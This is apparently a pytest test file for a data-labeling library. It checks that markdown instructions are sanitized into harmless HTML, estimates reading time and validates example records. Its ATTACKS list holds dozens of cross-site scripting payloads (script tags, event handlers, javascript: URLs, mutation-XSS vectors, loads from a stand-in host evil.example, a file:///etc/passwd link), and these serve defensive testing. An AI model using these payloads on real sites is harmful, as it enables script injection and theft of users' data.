"""Instructions are safe whatever is in them, say how long they take, and show examples."""

import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from labelwidgets.errors import SchemaError
from labelwidgets.labels import Box
from labelwidgets.schema import Example, Instructions
from labelwidgets.schema.instructions import ATTRIBUTES, TAGS, clean

PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\tsrc=//evil.example></script >",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' OnErRoR = 'alert(1)'>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.example/track.gif">',
    '<img src="//evil.example/x.png" srcset="//evil.example/y.png 2x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:text/html,<script>alert(1)</script>)",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https:evil' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<a href='file:///etc/passwd'>x</a> <a href='//evil.example'>x</a> <a href='/tree/delete'>x</a>",
    "<a data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}' href='#'>x</a>",
    "<button data-commandlinker-command='kernelmenu:restart'>x</button>",
    "<div style='width:expression(alert(1));background:url(javascript:alert(1))'>x</div>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id=x name=x class=jp-Button>clobber<img name=getElementById></p>",
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)><tr><td background=x onmouseover=alert(1)>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1) tabindex=1>x</x>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


class Reader(HTMLParser):
    """Collects what a page would be made of."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.found.append(("comment", {}))


def parts(html):
    reader = Reader()
    reader.feed(html)
    return reader.found


def assert_harmless(html):
    for tag, attributes in parts(html):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
        if tag == "a" and "href" in attributes:
            assert re.match(r"https?://|mailto:", attributes["href"])
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        if "src" in attributes:
            assert re.match(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$", attributes["src"])


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_is_left(attack):
    for text in (
        attack,
        f"# Title\n\n{attack}\n\nafter",
        f"- item {attack}",
        f"<p>{attack}</p>",
        f"<b title='{attack}'>",
    ):
        assert_harmless(Instructions(text).html)


def test_there_are_enough_attacks():
    assert len(set(ATTACKS)) >= 40


@given(st.text(max_size=40), st.sampled_from(ATTACKS), st.sampled_from(ATTACKS), st.integers(0, 30))
def test_nothing_that_acts_is_made_by_putting_pieces_together(text, one, two, cut):
    clean = "".join(char for char in text if char.isprintable())
    assert_harmless(Instructions(f"{one[:cut]}{clean}{two[cut:]}{one[cut:]}").html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack):
    once = Instructions(attack).html
    assert parts(clean(once)) == parts(once), "what a page reads by innerHTML is what was written"


def test_what_helps_to_explain_is_kept():
    html = Instructions(
        "# Cars\n\nDraw *tight* **boxes**, ~~not~~ `x`.\n\n1. one\n2. two\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        f"[guide](https://a.example/b?c=1&d=2) <a@b.example> ![a car]({PIXEL})\n\n"
        f"<details><summary>More</summary><kbd>Enter</kbd><br><img src='{PIXEL}' width=40 height=30></details>\n\n> said\n\n---\n"
    ).html
    for piece in [
        "<h1>Cars</h1>",
        "<em>tight</em> <strong>boxes</strong>",
        "<s>not</s>",
        "<code>x</code>",
        "<ol>",
        '<th align="left">a</th>',
        '<td align="right">2</td>',
        'href="https://a.example/b?c=1&amp;d=2"',
        'href="mailto:a@b.example"',
        f'<img src="{PIXEL}" alt="a car">',
        "<summary>More</summary>",
        "<kbd>Enter</kbd>",
        'width="40" height="30"',
        "<blockquote>",
        "<hr>",
    ]:
        assert piece in html


def test_code_is_shown_as_written():
    assert "<code>&lt;b&gt;</code>" in Instructions("`<b>`").html


@pytest.mark.parametrize(
    ("instructions", "minutes"),
    [
        (Instructions(), 0),
        (Instructions("word " * 500), 2),
        (Instructions("it's well-known " * 125), 1),
        (Instructions("猫" * 1000), 2),
        (Instructions(f"![x]({PIXEL})\n" * 12), 1),
        (Instructions("", [Example({"image": "a"}, {})] * 3), 1),
        (Instructions("<script>" + "word " * 500 + "</script>"), 0),
        (Instructions("[word](https://a.example/many/words/that/nobody/reads) " * 250), 1),
    ],
)
def test_reading_takes_as_long_as_words_pictures_and_examples_take(instructions, minutes):
    assert instructions.minutes == pytest.approx(minutes, abs=0.01)


def test_long_instructions_are_warned_of():
    assert Instructions("word " * 250 * 20).warning == ""
    assert "about 21 minutes; beyond 20 people skim" in Instructions("word " * 250 * 21).warning


def test_pictures_that_are_not_shown_are_warned_of():
    told = Instructions(f"![a](car.png) ![b](https://a.example/b.png) ![c]({PIXEL})")
    assert "2 pictures are not shown" in told.warning
    assert told.minutes == pytest.approx((2 / 250) + 5 / 60, abs=0.02)
    assert Instructions(f"![c]({PIXEL})").warning == ""


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (None, "the instructions must be text"),
        ("a\x00b", "the instructions may hold no control character"),
        ("\ud800", "unpaired surrogate"),
        ("x" * 5_000_001, "at most 5,000,000 characters"),
    ],
)
def test_what_is_no_text_is_refused(text, words):
    with pytest.raises(SchemaError, match=words):
        Instructions(text)


@pytest.mark.parametrize("examples", [[("a", {}, "")], "abc", [None], 3, {"a": 1}])
def test_what_are_no_examples_is_refused(examples):
    with pytest.raises(SchemaError, match="examples must be"):
        Instructions("", examples)


@pytest.mark.parametrize(
    ("given", "words"),
    [
        (("a.png", {}), "data of an example must be a dict"),
        (({}, [1]), "values of an example must be a dict"),
        (({}, {}, 3), "the caption of an example must be text"),
    ],
)
def test_what_is_no_example_is_refused(given, words):
    with pytest.raises(SchemaError, match=words):
        Example(*given)


def test_examples_hold_their_values_in_json_form():
    example = Example(
        {"image": "a"}, {"objects": [Box(1, 2, 3, 4), Box(5, 6, 7, 8, id="mine")], "path": ("a", "b")}, "Two"
    )
    assert [box["id"] for box in example.values["objects"]] == ["0", "mine"]
    assert example.values["path"] == ["a", "b"]
    assert Example.from_json(example.to_json()) == example


def test_an_example_holds_its_row_as_the_store_does():
    example = Example({"image": Path("a.png"), "n": np.int64(3), "none": None}, {})
    assert example.data == {"image": "a.png", "n": 3, "none": None}
    for bad in (object(), float("nan"), {1, 2}):
        with pytest.raises(SchemaError, match="data of an example must be text, numbers and the like"):
            Example({"image": bad}, {})


def test_there_is_something_to_read_or_not():
    assert not Instructions()
    assert not Instructions("  \n")
    assert Instructions("x")
    assert Instructions("", [Example({}, {})])
